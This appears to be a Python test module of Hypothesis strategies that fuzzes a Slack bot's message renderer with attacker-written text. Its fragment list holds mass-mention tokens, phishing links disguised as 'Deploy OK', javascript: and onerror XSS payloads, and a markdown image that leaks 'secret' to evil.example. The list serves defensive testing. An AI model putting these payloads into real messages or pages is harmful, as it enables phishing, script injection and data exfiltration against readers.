"""Texts as models and attackers write them, and events full of them."""

from dataclasses import replace

from hypothesis import strategies as st

from bot.core.delivery import Delivery, delivery_id
from bot.core.destination import SlackChannel, destination_id
from bot.core.event import Event, Failure, Image, Link, Requester
from bot.render.discretion import Seen
from tests.core.strategies import EVENTS, JSON

FRAGMENTS = st.sampled_from(
    [
        *("<!channel>", "<!here|x>", "<!everyone>", "<@U024BE7LH>", "<!subteam^S1>", "<#C1|general>", "@here"),
        *("<https://evil.example|Deploy OK>", "[Deploy OK](https://evil.example/x)", "<javascript:alert(1)>"),
        *("[a](javascript:alert(1))", "[a](http://good.example@evil.example)", "[a](https://evil.example\\@b)"),
        *("![x](https://evil.example/?q=secret)", "![](data:image/png;base64,AA)", "<img src=x onerror=alert(1)>"),
        *("[](https://evil.example)", "[ ](https://evil.example)", "<mailto:a@evil.example>", "https://evil.example"),
        *("# ", "## Head\n", "\n\n", "\n", "- ", "  - ", "1. ", "999999999. ", "- [ ] ", "- [x] done\n", "> ", ">> "),
        *("**", "*", "_", "~~", "`", "```", "```py\ncode\n```\n", "    indented\n", "---\n", "***\n", "\\", "&amp;"),
        *("| a | b |\n|---|:-:|\n| 1 | 2 |\n", "|", "&", "<", ">", "&lt;", "$x_1$", "\\(a\\)", "\t", "\r\n", "\x00"),
        *(
            "\ud800",
            "\udfff",
            "\u202e",
            "\u200d",
            "\ufe0f",
            "\u0301",
            "👩‍👩‍👧‍👦",
            "🇩🇪",
            "👍🏽",
            "नि",
            "각",
            "漢字",
            "שלום",
            "مرحبا",
        ),
        *("word ", "x" * 200, "long words " * 40),
    ]
)
HOSTILE = st.lists(FRAGMENTS | st.text(max_size=8), max_size=30).map("".join) | st.text(max_size=40)
LONG = st.builds(lambda text, times: text * times, HOSTILE, st.integers(1, 300))
_TITLE = st.none() | HOSTILE


def _hostile(
    event: Event, title: str | None, result: str, error: Failure | None, asked: str, tags: list[str], url: str
) -> Event:
    return replace(
        event,
        title=title,
        result=result,
        error=error,
        inference=asked or "i",
        requester=Requester(slack_id=asked, email=title),
        tags=tuple(tags),
        labels=dict.fromkeys(tags, asked),
        model=replace(event.model, name=asked or "m", version=title),
        links=tuple(Link(url=url, title=tag) for tag in tags),
        images=(Image(url=url, alt=asked),),
        extra=dict.fromkeys(tags, result),
    )


EVENTS_OF_ENEMIES = st.builds(
    _hostile,
    EVENTS,
    _TITLE,
    HOSTILE | LONG,
    st.none() | st.builds(Failure, type=_TITLE, message=_TITLE | LONG),
    HOSTILE,
    st.lists(HOSTILE, max_size=12),
    HOSTILE
    | st.sampled_from(["https://a.example/x", "http://a.example:80/", "mailto:a@b.example", "//a", "HTTPS://A"]),
)
RESULTS_OF_ALL_KINDS = st.builds(lambda event, result: replace(event, result=result), EVENTS, JSON | HOSTILE)

PLACE = SlackChannel(team="T1", channel="C1")


def item(event: Event, *, appended: int = 0) -> Seen:
    """The event's delivery to a channel, all of it seen. The event may be one that no record could ever bring."""
    place = destination_id(PLACE)
    delivery = Delivery(id=delivery_id(event.key, place), event=event.key, destination=place, appended=appended)
    return Seen(delivery=delivery, event=event)


_FEW = st.lists((EVENTS_OF_ENEMIES | EVENTS | RESULTS_OF_ALL_KINDS).map(item), min_size=1, max_size=4)
RUNS = st.builds(lambda run, times: run * times, _FEW, st.integers(1, 8))
